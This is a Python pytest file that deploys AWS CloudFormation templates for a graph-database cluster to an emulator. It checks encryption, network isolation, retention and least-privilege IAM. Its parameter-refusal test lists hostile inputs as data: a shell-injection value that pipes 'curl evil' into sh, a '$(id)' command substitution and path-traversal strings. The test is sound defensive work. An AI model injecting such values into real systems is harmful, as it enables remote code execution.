"""The templates, deployed to the emulator: made, changed by a change set, read, refused and deleted."""

import ast
import base64
import json
import re

import pytest
from botocore.exceptions import ClientError
from conftest import TEMPLATES, check_parameters, read_template

NAMES = sorted(path.stem for path in TEMPLATES.glob("*.yaml"))
NODE = {
    "ClusterId": "c1",
    "VpcId": "vpc-0123456789abcdef0",
    "ControlPlaneCidr": "10.80.0.0/16",
    "AgentSha256": "a" * 64,
    "ObjectBucket": "graphplane-objects",
    "ArtifactBucket": "graphplane-artifacts",
}
TIER = {**NODE, "Tier": "ladybug-standard"}
FLEET = {
    **NODE,
    "Replica": "default.sec",
    "SeedKey": "seeds/sec/readers",
    "VpcCidr": "10.80.0.0/16",
    "SubnetIds": "subnet-1,subnet-2",
    "KeyParameter": "/graphplane/replicas/default/sec",
}


@pytest.fixture
def network(aws):
    return aws.create_stack("graphplane-network", "network", {})


def in_network(network, parameters):
    placed = {**parameters, "VpcId": network["VpcId"]}
    return {**placed, "SubnetIds": network["SubnetIds"]} if "SubnetIds" in parameters else placed


def test_there_are_the_templates_of_the_design():
    assert NAMES == ["alarms", "network", "operator", "registries", "replica-fleet", "storage", "tier"]


@pytest.mark.parametrize("name", NAMES)
def test_the_head_of_a_template_names_its_parameters_and_outputs(name):
    head = (TEMPLATES / f"{name}.yaml").read_text().split("AWSTemplateFormatVersion")[0]
    said_in, said_out = head.split("# In:")[1].split("# Out:")
    template = read_template(name)
    # A name stands alone before its explanation, or in a list with commas.
    first = re.compile(r"^(?:#?\s*)((?:[A-Z]\w+, ?)*[A-Z]\w+)(?:\s{2,}|$)", re.M)
    names = {one for match in first.findall(said_in) for one in re.split(r",\s*", match)}
    assert names == set(template["Parameters"])
    for output in template["Outputs"]:
        assert re.search(rf"\b{output}\b", said_out), output
    assert "Capabilities: CAPABILITY_IAM" in head or "AWS::IAM::Role" not in str(template)


@pytest.mark.parametrize("name", NAMES)
def test_nothing_is_hidden_from_the_linter(name):
    assert "cfn-lint" not in (TEMPLATES / f"{name}.yaml").read_text()


def test_the_registries_have_the_keys_and_indexes_of_the_contract_and_outlive_their_stack(aws):
    outputs = aws.create_stack("graphplane-registries", "registries", {"Prefix": "robosystems-graph-prod"})
    dynamodb = aws.client("dynamodb")

    def keys(schema):
        return tuple(key["AttributeName"] for key in schema)

    indexes = {
        "instance": {
            "status-database-count-index": ("status", "database_count"),
            "tier-status-index": ("cluster_tier", "status"),
            "backend-type-status-index": ("backend_type", "status"),
        },
        "graph": {"instance-index": ("instance_id",), "entity-index": ("entity_id",)},
        "volume": {"instance-index": ("instance_id",), "database-index": ("database_id",), "tier-index": ("tier",)},
    }
    for word, expected in indexes.items():
        name = f"robosystems-graph-prod-{word}-registry"
        assert outputs[f"{word.title()}RegistryTable"] == name
        table = dynamodb.describe_table(TableName=name)["Table"]
        assert outputs[f"{word.title()}RegistryTableArn"] == table["TableArn"]
        assert keys(table["KeySchema"]) == (f"{word}_id",)
        found = table["GlobalSecondaryIndexes"]
        assert {index["IndexName"]: keys(index["KeySchema"]) for index in found} == expected
        assert {index["Projection"]["ProjectionType"] for index in found} == {"ALL"}
        assert table["BillingModeSummary"]["BillingMode"] == "PAY_PER_REQUEST"
        # The emulator does not take these from templates.
        properties = read_template("registries")["Resources"][f"{word.title()}Registry"]["Properties"]
        assert properties["PointInTimeRecoverySpecification"]["PointInTimeRecoveryEnabled"] is True
        assert properties["SSESpecification"]["SSEEnabled"] is True
    stream = dynamodb.describe_table(TableName="robosystems-graph-prod-volume-registry")["Table"]
    assert stream["StreamSpecification"]["StreamViewType"] == "NEW_AND_OLD_IMAGES"
    assert outputs["VolumeRegistryStreamArn"] == stream["LatestStreamArn"]

    dynamodb.put_item(
        TableName="robosystems-graph-prod-graph-registry",
        Item={"graph_id": {"S": "sec"}, "instance_id": {"S": "i-1"}, "entity_id": {"S": "e"}},
    )
    aws.change_stack("graphplane-registries", "registries", {"Prefix": "robosystems-graph-prod", "RecoveryPeriodInDays": 7})
    aws.delete_stack("graphplane-registries")
    row = dynamodb.get_item(TableName="robosystems-graph-prod-graph-registry", Key={"graph_id": {"S": "sec"}})
    assert row["Item"]["instance_id"] == {"S": "i-1"}


def test_the_buckets_are_closed_encrypted_and_outlive_their_stack(aws):
    outputs = aws.create_stack("graphplane-storage", "storage", {})
    s3 = aws.client("s3")
    assert outputs["ObjectStoreUrl"] == f"s3://{outputs['ObjectBucket']}"
    for bucket in (outputs["ObjectBucket"], outputs["ArtifactBucket"]):
        rules = s3.get_bucket_encryption(Bucket=bucket)["ServerSideEncryptionConfiguration"]["Rules"]
        assert rules[0]["ApplyServerSideEncryptionByDefault"]["SSEAlgorithm"] == "AES256"
    # The emulator does not take these from templates.
    for logical in ("Objects", "Artifacts"):
        properties = read_template("storage")["Resources"][logical]["Properties"]
        assert properties["VersioningConfiguration"]["Status"] == "Enabled"
        closed = properties["PublicAccessBlockConfiguration"]
        assert set(closed.values()) == {True} and len(closed) == 4
        rules = properties["LifecycleConfiguration"]["Rules"]
        assert {"unfinished-uploads", "old-versions"} <= {rule.get("Id") for rule in rules}
        policy = read_template("storage")["Resources"][f"{logical}Policy"]["Properties"]
        assert policy["Bucket"] == {"Ref": logical}
        assert policy["PolicyDocument"]["Statement"][0]["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}

    key = "arn:aws:kms:eu-central-1:123456789012:key/0f0f0f0f-1111-2222-3333-444444444444"
    aws.change_stack("graphplane-storage", "storage", {"KmsKeyArn": key})
    rules = s3.get_bucket_encryption(Bucket=outputs["ObjectBucket"])["ServerSideEncryptionConfiguration"]["Rules"]
    assert rules[0]["ApplyServerSideEncryptionByDefault"]["KMSMasterKeyID"] == key
    s3.put_object(Bucket=outputs["ObjectBucket"], Key="backups/kg1/1", Body=b"x")
    aws.delete_stack("graphplane-storage")
    assert s3.get_object(Bucket=outputs["ObjectBucket"], Key="backups/kg1/1")["Body"].read() == b"x"


def test_the_network_has_no_way_out_but_its_endpoints(aws, network):
    ec2 = aws.client("ec2")
    of_network = [{"Name": "vpc-id", "Values": [network["VpcId"]]}]
    subnets = ec2.describe_subnets(Filters=of_network)["Subnets"]
    assert {subnet["SubnetId"] for subnet in subnets} == set(network["SubnetIds"].split(","))
    assert len({subnet["AvailabilityZone"] for subnet in subnets}) == 3
    for letter in "ABC":
        assert read_template("network")["Resources"][f"Subnet{letter}"]["Properties"]["MapPublicIpOnLaunch"] is False
    attached = [{"Name": "attachment.vpc-id", "Values": [network["VpcId"]]}]
    assert ec2.describe_internet_gateways(Filters=attached)["InternetGateways"] == []
    assert ec2.describe_nat_gateways(Filters=of_network)["NatGateways"] == []
    endpoints = ec2.describe_vpc_endpoints(Filters=of_network)["VpcEndpoints"]
    services = {(point["ServiceName"].rsplit(".")[-1], point["VpcEndpointType"]) for point in endpoints}
    assert services == {("s3", "Gateway"), ("dynamodb", "Gateway"), ("ssm", "Interface")}
    # The emulator leaves a stack's route tables, and then refuses to delete their network.
    for table in ec2.describe_route_tables(Filters=of_network)["RouteTables"]:
        if not any(use["Main"] for use in table["Associations"]):
            for use in table["Associations"]:
                ec2.disassociate_route_table(AssociationId=use["RouteTableAssociationId"])
            ec2.delete_route_table(RouteTableId=table["RouteTableId"])
    aws.delete_stack("graphplane-network")
    assert ec2.describe_subnets(Filters=of_network)["Subnets"] == []

    two = aws.create_stack("small", "network", {"ThirdZone": "false", "SsmEndpoint": "false"})
    assert len(two["SubnetIds"].split(",")) == 2
    endpoints = ec2.describe_vpc_endpoints(Filters=[{"Name": "vpc-id", "Values": [two["VpcId"]]}])["VpcEndpoints"]
    assert {point["VpcEndpointType"] for point in endpoints} == {"Gateway"}


def test_the_alarms_reach_their_topic(aws):
    topic = aws.create_stack("graphplane-alarms", "alarms", {"Email": "ops@example.org"})["AlarmTopicArn"]
    events = aws.client("events")
    rules = events.list_rules()["Rules"]
    assert len(rules) == 2
    for rule in rules:
        targets = events.list_targets_by_rule(Rule=rule["Name"])["Targets"]
        assert [target["Arn"] for target in targets] == [topic]
    aws.change_stack("graphplane-alarms", "alarms", {})
    aws.delete_stack("graphplane-alarms")
    assert events.list_rules()["Rules"] == []

    # The emulator makes no alarms from templates: what they look at has to be what there is.
    resources = read_template("alarms")["Resources"].values()
    alarms = [resource["Properties"] for resource in resources if resource["Type"] == "AWS::CloudWatch::Alarm"]
    tables = {t["Properties"]["TableName"]["Sub"] for t in read_template("registries")["Resources"].values()}
    seen = {
        metric["MetricStat"]["Metric"]["Dimensions"][0]["Value"]["Sub"]
        for alarm in alarms
        for metric in alarm["Metrics"]
        if "MetricStat" in metric
    }
    assert seen == tables


def launch_template(aws, identifier, version="$Latest"):
    ec2 = aws.client("ec2")
    versions = ec2.describe_launch_template_versions(LaunchTemplateId=identifier, Versions=[version])
    return versions["LaunchTemplateVersions"][0]["LaunchTemplateData"]


def allowed(aws, role, policy):
    document = aws.client("iam").get_role_policy(RoleName=role.rsplit("/")[-1], PolicyName=policy)["PolicyDocument"]
    # The emulator gives it as Python prints it, with None where a statement is left out.
    return [statement for statement in ast.literal_eval(document)["Statement"] if statement]


def assert_guarded(machine):
    assert machine["MetadataOptions"]["HttpTokens"] == "required"
    assert machine["MetadataOptions"]["HttpPutResponseHopLimit"] == 1
    assert machine["MetadataOptions"]["InstanceMetadataTags"] == "disabled"
    assert all(disk["Ebs"]["Encrypted"] and disk["Ebs"]["DeleteOnTermination"] for disk in machine["BlockDeviceMappings"])
    for of in machine["TagSpecifications"]:
        assert {"Key": "graphplane.dev/cluster", "Value": "c1"} in of["Tags"]


def test_a_tier_starts_guarded_machines(aws, network):
    parameters = in_network(network, TIER)
    outputs = aws.create_stack("graphplane-tier-standard", "tier", parameters)
    machine = launch_template(aws, outputs["LaunchTemplateId"])
    assert_guarded(machine)
    image = aws.client("ssm").get_parameter(Name="/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64")
    assert machine["ImageId"] == image["Parameter"]["Value"]
    assert machine["IamInstanceProfile"]["Arn"] == outputs["InstanceProfileArn"]
    assert "UserData" not in machine
    group = aws.client("ec2").describe_security_groups(GroupIds=[outputs["SecurityGroupId"]])["SecurityGroups"][0]
    opened = [(r["FromPort"], [n["CidrIp"] for n in r["IpRanges"]]) for r in group["IpPermissions"]]
    assert opened == [(8001, ["10.80.0.0/16"])]
    sids = [statement["Sid"] for statement in allowed(aws, outputs["RoleArn"], "node")]
    assert sids == ["FetchAgent", "Objects", "ListObjects"]

    # A machine of it starts where and as what the operator says.
    started = aws.client("ec2").run_instances(
        LaunchTemplate={"LaunchTemplateId": outputs["LaunchTemplateId"], "Version": outputs["LaunchTemplateVersion"]},
        SubnetId=network["SubnetIds"].split(",")[0],
        InstanceType="m7g.xlarge",
        UserData="#!/bin/bash\n",
        MinCount=1,
        MaxCount=1,
    )["Instances"][0]
    assert started["InstanceType"] == "m7g.xlarge"
    assert {"Key": "graphplane.dev/agent", "Value": "a" * 64} in started["Tags"]
    aws.client("ec2").terminate_instances(InstanceIds=[started["InstanceId"]])

    sources = "arn:aws:s3:::data,arn:aws:s3:::data/*"
    changed = {**parameters, "InstanceType": "r7g.large", "SourceArns": sources}
    aws.change_stack("graphplane-tier-standard", "tier", changed)
    assert launch_template(aws, outputs["LaunchTemplateId"])["InstanceType"] == "r7g.large"
    aws.delete_stack("graphplane-tier-standard")
    with pytest.raises(ClientError):
        launch_template(aws, outputs["LaunchTemplateId"])


def test_a_fleet_serves_behind_its_load_balancer(aws, network):
    parameters = in_network(network, {**FLEET, "MinSize": 2, "MaxSize": 5, "InstanceType2": "r7g.large"})
    outputs = aws.create_stack("graphplane-replica-1", "replica-fleet", parameters)
    machine = launch_template(aws, outputs["LaunchTemplateId"])
    assert_guarded(machine)
    autoscaling, balancing = aws.client("autoscaling"), aws.client("elbv2")
    name = outputs["AutoScalingGroup"]
    group = autoscaling.describe_auto_scaling_groups(AutoScalingGroupNames=[name])["AutoScalingGroups"][0]
    assert (group["MinSize"], group["MaxSize"], group["DesiredCapacity"]) == (2, 5, 2)
    assert group["HealthCheckType"] == "ELB" and group["TargetGroupARNs"] == [outputs["TargetGroupArn"]]
    assert sorted(group["VPCZoneIdentifier"].split(",")) == sorted(network["SubnetIds"].split(","))
    policy = group["MixedInstancesPolicy"]
    used = policy["LaunchTemplate"]["LaunchTemplateSpecification"]
    assert (used["LaunchTemplateId"], used["Version"]) == (outputs["LaunchTemplateId"], outputs["LaunchTemplateVersion"])
    types = [override["InstanceType"] for override in policy["LaunchTemplate"]["Overrides"]]
    assert types == ["m7g.large", "r7g.large"]
    assert len(group["Instances"]) == 2
    target = balancing.describe_target_groups(TargetGroupArns=[outputs["TargetGroupArn"]])["TargetGroups"][0]
    assert (target["HealthCheckPath"], target["Port"]) == ("/health", 8001)
    balancer = balancing.describe_load_balancers(LoadBalancerArns=target["LoadBalancerArns"])["LoadBalancers"][0]
    assert balancer["Scheme"] == "internal"
    assert outputs["Endpoint"] == f"http://{balancer['DNSName']}:8001"
    may = allowed(aws, outputs["RoleArn"], "replica")
    assert [statement["Sid"] for statement in may] == ["FetchAgent", "FetchSeeds", "ListSeeds", "ReadKeys"]
    assert may[1]["Resource"] == "arn:aws:s3:::graphplane-objects/seeds/sec/readers/*"
    assert may[2]["Condition"] == {"StringLike": {"s3:prefix": ["seeds/sec/readers/*"]}}
    started = base64.b64decode(machine["UserData"]).decode()
    assert " --seed seeds/sec/readers --seed-poll-seconds 30 " in started
    # By these, whoever lists machines and groups knows whose they are.
    tags = {tag["Key"]: tag["Value"] for tag in group["Tags"]}
    assert (tags["graphplane.dev/kind"], tags["graphplane.dev/name"]) == ("Replica", "default.sec")

    # An update leaves the size to autoscaling, and the group goes on with the version of the template that it is given.
    autoscaling.set_desired_capacity(AutoScalingGroupName=name, DesiredCapacity=3)
    changed = {**parameters, "AgentSha256": "b" * 64}
    aws.change_stack("graphplane-replica-1", "replica-fleet", changed)
    assert "DesiredCapacity" not in read_template("replica-fleet")["Resources"]["Fleet"]["Properties"]
    assert ("b" * 64) in str(launch_template(aws, outputs["LaunchTemplateId"])["TagSpecifications"])
    aws.delete_stack("graphplane-replica-1")
    assert autoscaling.describe_auto_scaling_groups()["AutoScalingGroups"] == []


def test_the_operator_touches_what_bears_its_tag_alone(aws):
    parameters = {"ClusterId": "c1", "ObjectBucket": "graphplane-objects", "RegistryPrefix": "graphplane"}
    outputs = aws.create_stack("graphplane-operator", "operator", parameters)
    assert set(outputs) == {"MachinesPolicyArn", "StacksPolicyArn", "RegistriesPolicyArn"}
    for logical, resource in read_template("operator")["Resources"].items():
        for statement in resource["Properties"]["PolicyDocument"]["Statement"]:
            actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
            assert statement["Effect"] == "Allow" and not any("*" in action for action in actions), statement["Sid"]
            reads = all(action.split(":")[1].startswith("Describe") for action in actions)
            assert statement["Resource"] != "*" or reads or "aws:CalledViaFirst" in str(statement["Condition"]), logical
        # The largest that IAM takes, without blanks; names are put in.
        assert len(json.dumps(resource["Properties"]["PolicyDocument"], separators=(",", ":"))) < 6144
    boundary = "arn:aws:iam::123456789012:policy/boundary"
    changed = {**parameters, "RegistryPrefix": "other", "PermissionsBoundary": boundary}
    aws.change_stack("graphplane-operator", "operator", changed)
    aws.delete_stack("graphplane-operator")


def statements():
    """Every statement that a template allows somebody."""
    for name in NAMES:
        for logical, resource in read_template(name)["Resources"].items():
            if resource["Type"] == "AWS::IAM::Role":
                assert "ManagedPolicyArns" not in resource["Properties"], logical
                for policy in resource["Properties"]["Policies"]:
                    for statement in policy["PolicyDocument"]["Statement"]:
                        yield name, statement["If"][1] if "If" in statement else statement


def test_roles_allow_named_calls_on_named_things():
    seen = list(statements())
    assert len(seen) >= 9
    for name, statement in seen:
        actions, resources = statement["Action"], statement["Resource"]
        for action in actions if isinstance(actions, list) else [actions]:
            assert re.fullmatch(r"(s3|kms|ssm):[A-Za-z]+", action), (name, action)
        for resource in resources if isinstance(resources, list) else [resources]:
            assert resource != "*", (name, statement["Sid"])
        assert statement["Effect"] == "Allow" and "NotAction" not in statement and "NotResource" not in statement


def test_what_holds_data_is_kept_when_a_stack_goes():
    for name in NAMES:
        for logical, resource in read_template(name)["Resources"].items():
            keeps = resource["Type"] in ("AWS::DynamoDB::Table", "AWS::S3::Bucket")
            policies = (resource.get("DeletionPolicy"), resource.get("UpdateReplacePolicy"))
            assert not keeps or policies == ("Retain", "Retain"), (name, logical)


@pytest.mark.parametrize(
    ("template", "right", "wrong"),
    [
        ("registries", {}, {"Prefix": "Capitals"}),
        ("registries", {}, {"RecoveryPeriodInDays": 36}),
        ("storage", {}, {"Prefix": "a-prefix-that-is-too-long"}),
        ("storage", {}, {"InfrequentAccessDays": 7}),
        ("storage", {}, {"KmsKeyArn": "alias/mine"}),
        ("network", {}, {"VpcCidr": "8.8.0.0/16"}),
        ("network", {}, {"ThirdZone": "yes"}),
        ("alarms", {}, {"Email": "nobody"}),
        ("tier", TIER, {"Tier": "Standard"}),
        ("tier", TIER, {"Tier": "a" * 41}),
        ("tier", TIER, {"ControlPlaneCidr": "0.0.0.0/0"}),
        ("tier", TIER, {"AgentSha256": "latest"}),
        ("tier", TIER, {"ObjectPrefix": "../"}),
        ("tier", TIER, {"SourceArns": "*"}),
        ("tier", TIER, {"SourceArns": "arn:aws:s3:::data,arn:aws:iam::123456789012:role/x"}),
        ("tier", TIER, {"Unknown": "x"}),
        ("replica-fleet", FLEET, {"SeedKey": "seeds/sec'; curl evil | sh; '"}),
        ("replica-fleet", FLEET, {"SeedKey": "seeds/sec/../other"}),
        ("replica-fleet", FLEET, {"SeedKey": "seeds/*"}),
        ("replica-fleet", FLEET, {"SeedKey": "backups/sec"}),
        ("replica-fleet", FLEET, {"SeedPollSeconds": 0}),
        ("replica-fleet", FLEET, {"ObjectPrefix": "x'$(id)/"}),
        ("replica-fleet", FLEET, {"KeyParameter": "/graphplane/*"}),
        ("replica-fleet", FLEET, {"InstanceType2": "large"}),
        ("replica-fleet", FLEET, {"TargetCpuPercent": 101}),
    ],
)
def test_a_wrong_parameter_is_refused(template, right, wrong):
    check_parameters(template, right)
    with pytest.raises(ValueError, match=next(iter(wrong))):
        check_parameters(template, {**right, **wrong})


def test_a_missing_parameter_is_refused(aws):
    with pytest.raises(ClientError, match="(?i)parameter"):
        aws.create_stack("graphplane-tier-standard", "tier", {"Tier": "standard"})
